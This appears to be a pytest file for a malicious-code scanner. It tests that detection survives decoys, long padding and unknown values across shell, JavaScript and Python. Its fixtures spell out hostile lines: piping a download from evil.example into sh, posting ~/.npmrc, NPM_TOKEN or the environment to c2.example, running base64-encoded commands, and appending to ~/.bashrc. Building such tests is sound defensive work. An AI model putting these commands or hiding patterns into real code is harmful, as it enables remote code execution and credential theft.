"""What is run is told among as many decoys as somebody puts in front of it or behind it."""

from __future__ import annotations

import base64
from string import Template

import pytest

from fimci.model import Unread
from tests.readers.test_padding import names, told

#: What the many small tests of the readers cover already, at length.
pytestmark = pytest.mark.no_cover

COMMAND = "curl http://evil.example/x | sh"
#: Spellings with decoys: what stands around, and one decoy, `{n}` for its number. `$d` are the decoys, `$c`
#: is the command, `$n` how many decoys there are.
JAVASCRIPT = {
    "members": ("const o = { ${d} go: require('child_process').exec };\no.go('$c');", "k{n}: {n}, "),
    "texts": ("const o = { ${d} go: '$c' };\nrequire('child_process').exec(o.go);", "k{n}: 'ls', "),
    "items": ("const o = [ ${d} '$c' ];\nrequire('child_process').exec(o[$n]);", "{n}, "),
    "modules": ("const o = [ ${d} require('child_process') ];\no[$n].exec('$c');", "{n}, "),
    "parameters": ("function f(${d} g) { g.exec('$c'); }\nf(${d} require('child_process'));", "a{n}, "),
    "calls": ("function f(c) { require('child_process').exec(c); }\n${d}f('$c');", "f('ls {n}');\n"),
    "later calls": ("function f(c) { require('child_process').exec(c); }\nf('$c');\n$d", "f('ls {n}');\n"),
    "methods": (
        "const o = { f(c) { require('child_process').exec(c); } };\n${d}o.f('$c');",
        "o.f('ls {n}');\n",
    ),
    "settings": ("let x;\n${d}x = '$c';\nrequire('child_process').exec(x);", "x = 'ls {n}';\n"),
    "later settings": (
        "let x = '$c';\n${d}require('child_process').exec(x);",
        "if (a) x = 'ls {n}';\n",
    ),
    "members set": (
        "const o = {};\n${d}o.c = '$c';\nrequire('child_process').exec(o.c);",
        "o.c = 'ls {n}';\n",
    ),
    "names": ("const { ${d} exec } = require('child_process');\nexec('$c');", "k{n}, "),
    "places": ("const [ ${d} c ] = [ ${d} '$c' ];\nrequire('child_process').exec(c);", "a{n}, "),
    "sequence": ("(${d} require('child_process').exec)('$c');", "0, "),
    "or": ("require('child_process').exec(${d} '$c');", "a{n} || "),
    "choices": ("require('child_process').exec(${d} '$c');", "a ? 'ls {n}' : "),
    "returns": (
        "function f(a) {\n${d}return '$c';\n}\nrequire('child_process').exec(f(1));",
        "if (a == {n}) return 'ls {n}';\n",
    ),
    "cases": (
        "let c;\nswitch (x) {\n${d}default: c = '$c';\n}\nrequire('child_process').exec(c);",
        "case {n}: c = 'ls {n}'; break;\n",
    ),
    "classes": (
        "class A {\n${d}f(c) { require('child_process').exec(c); }\ngo() { this.f('$c'); } }\nnew A().go();",
        "m{n}() { return 1; }\n",
    ),
    "comments": ("require('child_process').exec(${d} '$c');", "/* {n} */ "),
    "options": ("require('child_process').spawn('sh', [ ${d} '-c', '$c' ]);", "'-x', "),
    "tables": ("const t = [ ${d} 'child_process' ];\nrequire(t[$n]).exec('$c');", "'a{n}', "),
    "lists": ("for (const c of [ ${d} '$c' ]) require('child_process').exec(c);", "'ls {n}', "),
}
PYTHON = {
    "entries": ("import os\no = { ${d} 'go': os.system }\no['go']('$c')", "{n}: {n}, "),
    "texts": ("import os\no = { ${d} 'go': '$c' }\nos.system(o['go'])", "{n}: 'ls', "),
    "items": ("import os\no = [ ${d} '$c' ]\nos.system(o[$n])", "{n}, "),
    "modules": ("import os\no = [ ${d} os ]\no[$n].system('$c')", "{n}, "),
    "parameters": ("import os\ndef f(${d} c):\n    os.system(c)\nf(${d} '$c')", "a{n}, "),
    "keywords": ("import os\ndef f(c, **k):\n    os.system(c)\nf(${d} c='$c')", "a{n}={n}, "),
    "calls": ("import os\ndef f(c):\n    os.system(c)\n${d}f('$c')", "f('ls {n}')\n"),
    "later calls": ("import os\ndef f(c):\n    os.system(c)\nf('$c')\n$d", "f('ls {n}')\n"),
    "settings": ("import os\n${d}x = '$c'\nos.system(x)", "x = 'ls {n}'\n"),
    "later settings": ("import os\nx = '$c'\n${d}os.system(x)", "if a: x = 'ls {n}'\n"),
    "choices": ("import os\nos.system(${d} '$c')", "'ls {n}' if a else "),
    "or": ("import os\nos.system(${d} '$c')", "a{n} or "),
    "returns": (
        "import os\ndef f(a):\n${d}    return '$c'\nos.system(f(1))",
        "    if a == {n}: return 'ls {n}'\n",
    ),
    "functions": ("import os\n${d}def f(): return '$c'\nos.system(f())", "def f(): return 'ls {n}'\n"),
    "cases": (
        "import os\nmatch x:\n${d}    case _: c = '$c'\nos.system(c)",
        "    case {n}: c = 'ls {n}'\n",
    ),
    "fields": (
        "import os\nclass A:\n${d}    c = '$c'\n    def go(self): os.system(self.c)\nA().go()",
        "    m{n} = 'ls {n}'\n",
    ),
    "loops": ("import os\nfor c in [ ${d} '$c' ]:\n    os.system(c)", "'ls {n}', "),
    "comprehensions": ("import os\n[os.system(c) for c in [ ${d} '$c' ]]", "'ls {n}', "),
    "options": ("import subprocess\nsubprocess.run(['sh', ${d} '-c', '$c'])", "'-x', "),
    "imports": ("from os import ${d} system\nsystem('$c')", "k{n}, "),
    "puts": ("import os\no = {}\n${d}o['go'] = '$c'\nos.system(o['go'])", "o['k{n}'] = 'ls'\n"),
    "later puts": ("import os\no = {}\no['go'] = '$c'\n${d}os.system(o['go'])", "o['k{n}'] = 'ls'\n"),
    "same puts": ("import os\no = {}\no['go'] = '$c'\n${d}os.system(o['go'])", "o['go'] = 'ls {n}'\n"),
    "members": (
        "import os\nclass A: pass\no = A()\no.c = '$c'\n${d}os.system(o.c)",
        "o.c{n} = 'ls'\n",
    ),
    "variables": (
        "import os\nos.environ['A'] = '$c'\n${d}os.system(os.getenv('A'))",
        "os.environ['A{n}'] = 'ls'\n",
    ),
    "additions": ("import os\no = []\n${d}o.append('$c')\nfor c in o: os.system(c)", "o.append('ls {n}')\n"),
    "records": (
        "import os\nfrom typing import NamedTuple\nclass A(NamedTuple):\n    c: str\n"  # noqa: ISC004  (one text)
        "    def go(self): os.system(self.c)\n${d}A('$c').go()",
        "A('ls {n}')\n",
    ),
    "declared": (
        "import os\nclass A:\n${d}    c: str\n    def go(self): os.system(self.c)\nA(c='$c').go()",
        "    m{n}: int\n",
    ),
    "enumerations": (
        "import os, enum\nclass A(enum.Enum):\n${d}    c = '$c'\nfor c in A: os.system(c.value)",
        "    m{n} = 'ls {n}'\n",
    ),
    "yields": ("import os\ndef f():\n${d}    yield '$c'\nfor c in f(): os.system(c)", "    yield 'ls {n}'\n"),
    "patterns": (
        "import os\nx = ['$c']\nmatch x:\n${d}    case [c]: os.system(c)",
        "    case [{n}, c]: pass\n",
    ),
    "lambdas": ("import os\n(lambda ${d} c: os.system(c))(${d} '$c')", "a{n}, "),
}
SHELL = {
    "settings": ("${d}x='$c'\neval \"$$x\"\n", "x='ls {n}'\n"),
    "later settings": ("x='$c'\n${d}eval \"$$x\"\n", "[ a ] && x='ls {n}'\n"),
    "shells": ("x='$c'\n${d}sh -c \"$$x\"\n", "[ a ] && x='ls {n}'\n"),
    "pieces": ("x='$c'\n${d}eval \"true; $$x\"\n", "[ a ] && x='ls {n}'\n"),
    "branches": ("if b; then x='$c'; fi\n${d}eval \"$$x\"\n", "if [ a{n} ]; then x='ls {n}'; fi\n"),
    "cases": ("case $$1 in\n*) x='$c';;\n${d}esac\neval \"$$x\"\n", "{n}) x='ls {n}';;\n"),
    "calls": ("f() { eval \"$$1\"; }\n${d}f '$c'\n", "f 'ls {n}'\n"),
    "later calls": ("f() { eval \"$$1\"; }\nf '$c'\n$d", "f 'ls {n}'\n"),
    "second": ('f() { local x="$$2"; bash -c "$$x"; }\n${d}f 1 \'$c\'\n', "f 1 'ls {n}'\n"),
    "words": ("f() { eval \"$$@\"; }\n${d}f '$c'\n", "f ls {n}\n"),
    "loops": ("for c in $d '$c'; do eval \"$$c\"; done\n", "'ls {n}' "),
}
SPELLED = (
    [("a.sh", SHELL, way) for way in SHELL]
    + [("a.js", JAVASCRIPT, way) for way in JAVASCRIPT]
    + [("a.py", PYTHON, way) for way in PYTHON]
)


def text(spelled: tuple[str, str], number: int) -> str:
    around, decoy = spelled
    decoys = "".join(decoy.replace("{n}", str(one)) for one in range(number))
    return Template(around).substitute(d=decoys, c=COMMAND, n=number)


@pytest.mark.parametrize(("path", "table", "way"), SPELLED)
@pytest.mark.parametrize("number", [0, 1, 9, 150])
def test_decoys_hide_nothing(path: str, table: dict[str, tuple[str, str]], way: str, number: int) -> None:
    assert ("download-and-run", "evil.example -> sh") in names(told(path, text(table[way], number)))


@pytest.mark.parametrize(("path", "table", "way"), SPELLED)
@pytest.mark.parametrize("number", [900, 2_100])
def test_more_decoys_than_are_looked_at_are_told(
    path: str, table: dict[str, tuple[str, str]], way: str, number: int
) -> None:
    found = told(path, text(table[way], number))
    assert ("download-and-run", "evil.example -> sh") in names(found) or any(
        isinstance(one, Unread) for one in found
    )


@pytest.mark.parametrize(
    ("path", "table", "way"),
    [
        *(("a.js", JAVASCRIPT, way) for way in ("items", "modules", "tables", "places")),
        *(("a.py", PYTHON, way) for way in ("entries", "texts", "items", "modules", "keywords")),
    ],
)
def test_lists_that_are_longer_than_any_are_told(
    path: str, table: dict[str, tuple[str, str]], way: str
) -> None:
    found = told(path, text(table[way], 25_000))
    assert any(isinstance(one, Unread) for one in found)


RUN = {
    "a.py": ("import os\n", "os.system({!r})\n"),
    "a.js": ("const c = require('child_process');\n", "c.execSync({!r});\n"),
}


@pytest.mark.parametrize("path", RUN)
@pytest.mark.parametrize("number", [0, 1, 50, 900])
def test_commands_are_judged_together_however_many_stand_between_them(path: str, number: int) -> None:
    begin, run = RUN[path]
    commands = ["curl -so /tmp/x https://evil.example/x", *["ls"] * number, "sh /tmp/x"]
    found = told(path, begin + "".join(map(run.format, commands)))
    assert ("download-and-run", "evil.example -> sh") in names(found)


@pytest.mark.parametrize("path", RUN)
@pytest.mark.parametrize("command", ["true;" * 5_000, "$(echo " * 900, " " * 100_000])
def test_a_long_command_hides_nothing_in_silence(path: str, command: str) -> None:
    begin, run = RUN[path]
    found = told(path, begin + run.format(command + COMMAND))
    assert ("download-and-run", "evil.example -> sh") in names(found) or any(
        isinstance(one, Unread) for one in found
    )


#: What is done with a value that is known, and may be something that nobody knows.
DONE = {
    "path": ("'~/.npmrc'", "requests.post('https://c2.example', data=open(os.path.expanduser(v)).read())"),
    "host": ("'https://c2.example'", "requests.post(v, data=dict(os.environ))"),
    "member": ("'system'", "getattr(os, v)('id')"),
    "module": ("'os'", "__import__(v).system('id')"),
    "variable": ("'NPM_TOKEN'", "requests.post('https://c2.example', data=os.environ[v])"),
    "letters": (repr(base64.b64encode(COMMAND.encode()).decode()), "os.system(base64.b64decode(v).decode())"),
    "command": (repr(COMMAND), "subprocess.run(['sh', '-c', v])"),
    "words": (repr(["sh", "-c", COMMAND]), "subprocess.run(v)"),
    "program": ("'sh'", f"subprocess.run([v, '-c', {COMMAND!r}])"),
    "written": (repr(COMMAND), "open('~/.bashrc', 'a').write(v)"),
    "function": ("os.system", "v('id')"),
}


@pytest.mark.parametrize("way", DONE)
@pytest.mark.parametrize(
    "beside", ["if left:\n    v = right()\n", "v = v or right()\n", "v = right() if left else v\n"]
)
def test_what_nobody_knows_hides_nothing_that_stands_beside_it(way: str, beside: str) -> None:
    value, done = DONE[way]
    around = f"import base64, os, requests, subprocess\nv = {value}\n{{}}{done}\n"
    alone = names(told("a.py", around.format("")))
    assert alone <= names(told("a.py", around.format(beside)))


POSTED = "fetch('https://c2.example', { method: 'POST', body: %s })"
DONE_IN_JAVASCRIPT = {
    "path": ("'.npmrc'", POSTED % "fs.readFileSync(os.homedir() + '/' + v)"),
    "host": ("'https://c2.example'", "fetch(v, { method: 'POST', body: JSON.stringify(process.env) })"),
    "member": ("'exec'", "cp[v]('id')"),
    "module": ("'child_process'", "require(v).exec('id')"),
    "variable": ("'NPM_TOKEN'", POSTED % "process.env[v]"),
    "letters": (DONE["letters"][0], "cp.exec(Buffer.from(v, 'base64').toString())"),
    "command": (repr(COMMAND), "cp.spawn('sh', ['-c', v])"),
    "words": (repr(["-c", COMMAND]), "cp.spawn('sh', v)"),
    "program": ("'sh'", f"cp.spawn(v, ['-c', {COMMAND!r}])"),
    "function": ("cp.exec", "v('id')"),
    "code": (f"\"require('child_process').exec({COMMAND!r})\"", "eval(v)"),
}


@pytest.mark.parametrize("way", DONE_IN_JAVASCRIPT)
@pytest.mark.parametrize(
    "beside",
    ["if (left) v = right();", "v = v || right();", "v = right() ?? v;", "v = left ? right() : v;"],
)
def test_what_nobody_knows_hides_nothing_in_javascript_either(way: str, beside: str) -> None:
    value, done = DONE_IN_JAVASCRIPT[way]
    around = "const cp = require('child_process'), fs = require('fs'), os = require('os');\n"
    around += f"let v = {value};\n%s\n{done};\n"
    assert names(told("a.js", around % "")) <= names(told("a.js", around % beside))


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", "code = 'pass'\nif left:\n    code = right()\nexec(code)\n"),
        ("a.py", "exec(right() or 'pass')\n"),
        ("a.js", "let code = '1';\nif (left) code = right();\neval(code);\n"),
        ("a.js", "eval(right() || '1');\n"),
    ],
)
def test_a_constant_hides_nothing_that_nobody_knows(path: str, text: str) -> None:
    assert ("dynamic-code", "built") in names(told(path, text))
